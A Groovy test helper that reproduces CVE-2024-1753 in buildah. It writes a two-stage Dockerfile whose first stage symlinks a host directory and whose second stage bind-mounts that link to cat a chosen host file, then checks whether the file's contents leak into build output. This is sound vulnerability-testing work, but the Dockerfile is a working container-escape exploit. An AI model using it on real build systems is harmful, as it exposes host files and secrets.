package dev.groovebox.spec.build

import dev.groovebox.sandbox.engine.BusyboxImage
import java.nio.file.Files
import java.nio.file.Path
import java.nio.file.StandardCopyOption
import java.util.concurrent.TimeUnit

/** Runs the trap of CVE-2024-1753 with the buildah of this machine, in storage and a mount namespace that go with it. */
class BuildahControl {
    /** Whether a step reads a file of the host through a link of the image that it mounts. */
    static boolean reads(Path scratch, Path file) {
        def folder = Files.createTempDirectory(scratch, 'buildah')
        def root = Files.createDirectories(folder.resolve('context/root/bin'))
        Files.copy(BusyboxImage.PROGRAM, root.resolve('busybox'), StandardCopyOption.COPY_ATTRIBUTES)
        Files.createSymbolicLink(root.resolve('sh'), Path.of('busybox'))
        Files.createSymbolicLink(root.resolve('cat'), Path.of('busybox'))
        Files.writeString(folder.resolve('context/Dockerfile'), """\
            FROM scratch AS trap
            COPY root /
            RUN ["/bin/busybox", "ln", "-s", "$file.parent", "/out"]
            FROM scratch
            COPY root /
            RUN --mount=type=bind,from=trap,source=/out,target=/host cat /host/$file.fileName
            """.stripIndent())
        def process = new ProcessBuilder('unshare', '--mount', '--propagation', 'private', 'buildah', "--root=$folder/storage",
                "--runroot=$folder/run", '--storage-driver=vfs', 'build', '--isolation=chroot', '--network=host', '--no-cache',
                "$folder/context").redirectErrorStream(true).start()
        def said = process.inputStream.text
        assert process.waitFor(60, TimeUnit.SECONDS)
        said.contains(Files.readString(file).strip())
    }
}
